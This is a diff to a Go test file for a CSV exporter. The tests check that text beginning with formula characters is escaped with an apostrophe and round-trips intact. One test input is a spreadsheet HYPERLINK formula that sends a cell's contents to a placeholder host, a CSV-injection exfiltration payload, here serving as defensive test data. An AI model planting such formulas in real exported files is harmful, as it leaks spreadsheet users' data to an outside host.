@@ -8,6 +8,7 @@ import (
 	"io"
 	"math"
 	"regexp"
+	"slices"
 	"strings"
 	"testing"
 
@@ -211,8 +212,12 @@ func TestCSVCells(t *testing.T) {
 		{"2026-04", "KH-1", "", "female", "", "-9223372036854775808", "0.3333333333333333", "Phnom Penh, \"centre\"\nsecond line — ភ្នំពេញ", "1900-01-01", "false", "sea"},
 		{"2026-05", "KH-2", "", "male", "adult", "9223372036854775807", "1.7976931348623157e+308", "  padded, kept  ", "2024-02-29", "", "air"},
 		{"2026-06", "KH-3", "", "female", "", "", "5e-324", "a;b\tc\r\"", "", "", ""},
-		{"2026-07", "KH-4", "", "female", "", "", "-2.5e-08", "=1+2", "", "", ""},
+		{"2026-07", "KH-4", "", "female", "", "", "-2.5e-08", "'=1+2", "", "", ""},
 	}
+	// RawText writes the text that starts like a formula as it is.
+	raw := slices.Clone(data)
+	raw[5] = slices.Clone(raw[5])
+	raw[5][7] = "=1+2"
 	for _, tc := range []struct {
 		name string
 		opts rowfile.CSVOptions
@@ -220,6 +225,7 @@ func TestCSVCells(t *testing.T) {
 	}{
 		{"plain", rowfile.CSVOptions{}, append([][]string{header}, data...)},
 		{"hxl", rowfile.CSVOptions{HXL: true}, append([][]string{header, hxl}, data...)},
+		{"raw text", rowfile.CSVOptions{RawText: true}, append([][]string{header}, raw...)},
 	} {
 		t.Run(tc.name, func(t *testing.T) {
 			var buf bytes.Buffer
@@ -254,6 +260,64 @@ func TestCSVCells(t *testing.T) {
 				}
 			}
 		})
+	}
+}
+
+// TestCSVGuardsFormulas checks that text, code and category cells a
+// spreadsheet would run as formulas are written with an apostrophe in
+// front, that nothing else is, and that reading gives back exactly what
+// was written, apostrophes of the text itself included.
+func TestCSVGuardsFormulas(t *testing.T) {
+	texts := map[string]string{ // text → its cell
+		"=HYPERLINK(\"http://x.example/?\"&A1)": "'=HYPERLINK(\"http://x.example/?\"&A1)",
+		"+1":                                    "'+1", "-x": "'-x", "@SUM(A1)": "'@SUM(A1)", "\tx": "'\tx", "\rx": "'\rx",
+		"'quoted": "''quoted", "'=x": "''=x", "'": "''", "''": "'''",
+		"plain": "plain", "a=b": "a=b", " =1": " =1", "x'": "x'",
+	}
+	for text, wantCell := range texts {
+		row := &exchangev1.Row{
+			Period: "2026-07", Location: "KH-4",
+			Categories: map[string]string{"sex": text},
+			Values:     map[string]*exchangev1.Value{"notes": textV(text), "route": codeV(text), "cases": intV(-7)},
+		}
+		var buf bytes.Buffer
+		w, err := rowfile.NewCSVWriter(&buf, testDataset(), rowfile.CSVOptions{})
+		if err != nil {
+			t.Fatal(err)
+		}
+		if err := w.Write(row); err != nil {
+			t.Fatal(err)
+		}
+		if err := w.Flush(); err != nil {
+			t.Fatal(err)
+		}
+		recs, err := csv.NewReader(strings.NewReader(buf.String())).ReadAll()
+		if err != nil {
+			t.Fatal(err)
+		}
+		cells := map[string]string{}
+		for i, h := range recs[0] {
+			cells[h] = recs[1][i]
+		}
+		if cells["notes"] != wantCell || cells["sex"] != wantCell || cells["route"] != wantCell {
+			t.Errorf("%q written as notes %q, sex %q, route %q; want %q", text, cells["notes"], cells["sex"], cells["route"], wantCell)
+		}
+		if cells["cases"] != "-7" {
+			t.Errorf("a negative integer was written as %q, want -7", cells["cases"])
+		}
+		r, err := rowfile.NewCSVReader(strings.NewReader(buf.String()), testDataset())
+		if err != nil {
+			t.Fatal(err)
+		}
+		got := readAll(t, r)
+		if len(got) != 1 || got[0].GetValues()["notes"].GetTextValue() != text {
+			t.Fatalf("%q read back as %v", text, got)
+		}
+		// Categories and codes are trimmed of surrounding spaces on import.
+		if trimmed := strings.TrimSpace(text); text == trimmed &&
+			(got[0].GetCategories()["sex"] != text || got[0].GetValues()["route"].GetCodeValue() != text) {
+			t.Errorf("%q read back as category %q, code %q", text, got[0].GetCategories()["sex"], got[0].GetValues()["route"].GetCodeValue())
+		}
 	}
 }
 
